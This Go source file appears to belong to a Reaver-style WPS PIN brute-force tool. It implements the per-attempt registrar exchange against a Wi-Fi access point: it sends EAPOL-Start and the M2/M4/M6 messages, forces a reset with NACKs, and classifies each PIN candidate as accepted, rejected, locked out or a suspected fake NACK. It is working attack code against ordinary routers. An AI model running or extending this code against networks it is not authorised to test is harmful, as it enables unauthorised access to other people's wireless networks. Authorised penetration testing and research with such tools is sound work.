package exchange

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/Redfern89/reaver-redfern89/internal/capture"
	"github.com/Redfern89/reaver-redfern89/internal/frame"
	"github.com/Redfern89/reaver-redfern89/internal/pin"
	"github.com/Redfern89/reaver-redfern89/internal/wsc"
)

// Defaults for Policy fields left at zero.
const (
	DefaultReceiveTimeout = 5 * time.Second
	DefaultM57Timeout     = 400 * time.Millisecond
	EAPOLStartMaxTries    = 25
)

// Link is the part of the capture link an exchange drives.
type Link interface {
	ReadFrame(ctx context.Context) (frame.Frame, error)
	SendEAPOLStart(ctx context.Context) error
	SendIdentityResponse(ctx context.Context, id uint8) error
	SendWSC(ctx context.Context, id uint8, op wsc.Opcode, body []byte) error
	SendEAPFailure(ctx context.Context, id uint8) error
}

// Keys is the key-status view of the PIN space. M5 and M7 move it forward.
type Keys interface {
	Status() pin.KeyStatus
	SetStatus(pin.KeyStatus)
}

// Policy tunes how strictly the exchange follows the protocol.
type Policy struct {
	// IgnoreOutOfOrder keeps waiting instead of NACKing unexpected M1/M3/M5.
	IgnoreOutOfOrder bool
	// RepeatM6 answers a repeated M5 with M6 again.
	RepeatM6 bool
	// TimeoutIsNack treats a timeout after M3/M5 as a rejection. It is
	// switched off once the AP proves it sends NACKs.
	TimeoutIsNack bool
	// EAPTerminate sends EAP-Failure after every attempt.
	EAPTerminate   bool
	ReceiveTimeout time.Duration
	M57Timeout     time.Duration
}

// Exchange runs attempts over one link. It is reused across a campaign so
// the TimeoutIsNack downgrade sticks.
type Exchange struct {
	link   Link
	reg    wsc.Registrar
	policy Policy
	log    *logrus.Entry
	now    func() time.Time
}

// New builds an exchange. A nil logger logs to the standard logrus logger.
func New(link Link, reg wsc.Registrar, policy Policy, log *logrus.Entry) *Exchange {
	if policy.ReceiveTimeout <= 0 {
		policy.ReceiveTimeout = DefaultReceiveTimeout
	}
	if policy.M57Timeout <= 0 {
		policy.M57Timeout = DefaultM57Timeout
	}
	if log == nil {
		log = logrus.NewEntry(logrus.StandardLogger())
	}
	return &Exchange{link: link, reg: reg, policy: policy, log: log, now: time.Now}
}

func (e *Exchange) Policy() Policy { return e.policy }

// attempt is the scratch state of one transaction, dropped when Run returns.
type attempt struct {
	state       State
	last        Message
	eapID       uint8
	eapolStarts int
	idSent      bool
	deauthSeen  bool
	gotNack     bool
	nackReason  uint16
	terminated  bool
	premature   bool

	timerOn  bool
	deadline time.Time
}

func (a *attempt) finished(keys Keys) bool {
	return keys.Status() == pin.KeyDone || a.terminated || a.gotNack || a.premature
}

func (e *Exchange) startTimer(a *attempt, d time.Duration) {
	a.timerOn = true
	a.deadline = e.now().Add(d)
}

func (e *Exchange) expired(a *attempt) bool {
	return a.timerOn && !e.now().Before(a.deadline)
}

// Run performs one registration attempt with cand. keys is advanced to
// KEY2_WIP on M5 and KEY_DONE on M7. The returned error is non-nil only for
// link, registrar or context failures; protocol failures are outcomes.
func (e *Exchange) Run(ctx context.Context, keys Keys, cand pin.Candidate) (Result, error) {
	a := &attempt{}
	log := e.log.WithField("pin", cand.String())
	e.reg.Reset(cand)

	if err := e.sendEAPOLStart(ctx, a); err != nil {
		return Result{Outcome: UnknownError, State: a.state}, err
	}

	for !a.finished(keys) {
		f, err := e.link.ReadFrame(ctx)
		switch {
		case errors.Is(err, capture.ErrReadTimeout):
		case err != nil:
			e.close(context.WithoutCancel(ctx), a, false)
			return Result{Outcome: UnknownError, State: a.state, LastMessage: a.last}, err
		default:
			if err := e.handle(ctx, log, a, keys, f); err != nil {
				e.close(context.WithoutCancel(ctx), a, false)
				return Result{Outcome: UnknownError, State: a.state, LastMessage: a.last}, err
			}
		}

		if !a.finished(keys) && e.expired(a) {
			if err := e.onTimeout(ctx, log, a); err != nil {
				e.close(context.WithoutCancel(ctx), a, false)
				return Result{Outcome: UnknownError, State: a.state, LastMessage: a.last}, err
			}
		}
	}

	res := e.classify(log, a, keys)
	if err := e.close(ctx, a, res.Outcome == EAPFail); err != nil {
		return res, err
	}
	return res, nil
}

func (e *Exchange) handle(ctx context.Context, log *logrus.Entry, a *attempt, keys Keys, f frame.Frame) error {
	msg := messageOf(f)
	if isRequest(f) {
		a.eapID = f.EAPID
		a.timerOn = false
	}
	if msg == MsgUnknown {
		return nil
	}
	if msg == MsgDeauth {
		if !a.deauthSeen {
			log.Debug("Received deauth request")
		}
		a.deauthSeen = true
		return nil
	}
	a.deauthSeen = false

	// The highest message before this one; a NACK is judged by where the AP stopped.
	prev := a.last
	if msg > a.last {
		a.last = msg
	}
	log.WithField("msg", msg).Debug("Received message")

	if msg == MsgM5 && keys.Status() == pin.Key1WIP {
		keys.SetStatus(pin.Key2WIP)
	}
	if msg == MsgM1 || msg == MsgM3 || msg == MsgM5 || msg == MsgM7 {
		if err := e.reg.Process(f.Msg(), f.Body); err != nil {
			log.WithError(err).Debug("Registrar rejected enrollee message")
		}
	}

	t, ok, answerable := lookup(a.state, msg)
	if ok && t.act == actRepeatM6 && !e.policy.RepeatM6 {
		ok = false
	}
	if !ok {
		if !answerable {
			log.WithField("msg", msg).Warn("Unexpected packet received, terminating transaction")
			a.terminated = true
			return nil
		}
		if e.policy.IgnoreOutOfOrder {
			e.startTimer(a, e.policy.ReceiveTimeout)
			return nil
		}
		a.terminated = true
		return e.sendNack(ctx, a, wsc.ConfigErrorNone)
	}

	switch t.act {
	case actIdentity:
		a.idSent = true
		a.eapolStarts = 0
		if err := e.link.SendIdentityResponse(ctx, a.eapID); err != nil {
			return fmt.Errorf("send identity response: %w", err)
		}
		e.startTimer(a, e.policy.ReceiveTimeout)
	case actSendM2:
		if err := e.sendRegistrar(ctx, a, wsc.MsgM2, e.policy.ReceiveTimeout); err != nil {
			return err
		}
	case actSendM4:
		if err := e.sendRegistrar(ctx, a, wsc.MsgM4, e.policy.M57Timeout); err != nil {
			return err
		}
	case actSendM6, actRepeatM6:
		if err := e.sendRegistrar(ctx, a, wsc.MsgM6, e.policy.M57Timeout); err != nil {
			return err
		}
	case actDone:
		if keys.Status() == pin.Key2WIP {
			keys.SetStatus(pin.KeyDone)
		}
		if err := e.sendNack(ctx, a, wsc.ConfigErrorNone); err != nil {
			return err
		}
	case actNack:
		a.gotNack = true
		a.nackReason = f.Attrs.ConfigError
		a.last = prev
		log.WithField("reason", fmt.Sprintf("0x%04X", a.nackReason)).Debug("Received WSC NACK")
	case actTerminate:
		a.terminated = true
		a.last = prev
		log.Debug("Received EAP_FAILURE message")
	}
	a.state = t.next
	return nil
}

func (e *Exchange) onTimeout(ctx context.Context, log *logrus.Entry, a *attempt) error {
	if a.idSent {
		a.premature = true
		return nil
	}
	if a.eapolStarts >= EAPOLStartMaxTries {
		log.Warnf("%d successive start failures", EAPOLStartMaxTries)
		a.premature = true
		return nil
	}
	a.deauthSeen = false
	return e.sendEAPOLStart(ctx, a)
}

func (e *Exchange) sendEAPOLStart(ctx context.Context, a *attempt) error {
	if err := e.link.SendEAPOLStart(ctx); err != nil {
		return fmt.Errorf("send EAPOL start: %w", err)
	}
	a.eapolStarts++
	if a.state == StateIdle {
		a.state = StateEAPOLStartSent
	}
	e.startTimer(a, e.policy.ReceiveTimeout)
	return nil
}

func (e *Exchange) sendRegistrar(ctx context.Context, a *attempt, msg wsc.MessageType, timeout time.Duration) error {
	body, err := e.reg.Build(msg)
	if err != nil {
		return fmt.Errorf("build %s: %w", msg, err)
	}
	if err := e.link.SendWSC(ctx, a.eapID, wsc.OpMsg, body); err != nil {
		return fmt.Errorf("send %s: %w", msg, err)
	}
	e.startTimer(a, timeout)
	return nil
}

func (e *Exchange) sendNack(ctx context.Context, a *attempt, reason uint16) error {
	en, reg := e.reg.Nonces()
	if err := e.link.SendWSC(ctx, a.eapID, wsc.OpNack, wsc.BuildNack(en, reg, reason)); err != nil {
		return fmt.Errorf("send NACK: %w", err)
	}
	e.startTimer(a, e.policy.ReceiveTimeout)
	return nil
}

// close always ends the transaction with a NACK so the AP state machine
// resets, and optionally an EAP-Failure.
func (e *Exchange) close(ctx context.Context, a *attempt, failed bool) error {
	err := e.sendNack(ctx, a, wsc.ConfigErrorNone)
	a.timerOn = false
	if e.policy.EAPTerminate || failed {
		if ferr := e.link.SendEAPFailure(ctx, a.eapID); ferr != nil && err == nil {
			err = fmt.Errorf("send EAP failure: %w", ferr)
		}
	}
	return err
}

func (e *Exchange) classify(log *logrus.Entry, a *attempt, keys Keys) Result {
	res := Result{
		State:       a.state,
		LastMessage: a.last,
		GotNack:     a.gotNack,
		NackReason:  a.nackReason,
	}
	halfReached := a.last == MsgM3 || a.last == MsgM5
	firstHalfChanged := a.last == MsgM3 && keys.Status() == pin.Key2WIP

	switch {
	case a.gotNack:
		res.Outcome = UnknownError
		if halfReached {
			// The AP sends NACKs properly; timeouts mean nothing from now on.
			e.policy.TimeoutIsNack = false
			res.Outcome = KeyRejected
			if a.nackReason == wsc.ConfigErrorMessageTimeout {
				res.Outcome = UnknownError
				log.Warn("Potential FAKE NACK")
			} else if firstHalfChanged {
				res.Outcome = UnknownError
				log.Warn("Potential first half pin has changed")
			}
		}
		if a.nackReason == wsc.ConfigErrorSetupLocked {
			res.SetupLocked = true
			log.Warn("Detected AP has WPS setup locked")
		}
	case a.premature:
		res.Outcome = RxTimeout
		if e.policy.TimeoutIsNack && halfReached {
			res.Outcome = KeyRejected
			if firstHalfChanged {
				res.Outcome = UnknownError
				log.Warn("Potential first half pin has changed")
			}
		}
	case a.terminated:
		res.Outcome = EAPFail
	case keys.Status() != pin.KeyDone:
		res.Outcome = UnknownError
	default:
		res.Outcome = KeyAccepted
	}

	switch res.Outcome {
	case KeyAccepted:
		res.State = StateAccepted
	case KeyRejected:
		res.State = StateRejected
	case RxTimeout:
		res.State = StateTimeout
	default:
		res.State = StateFailed
	}
	return res
}
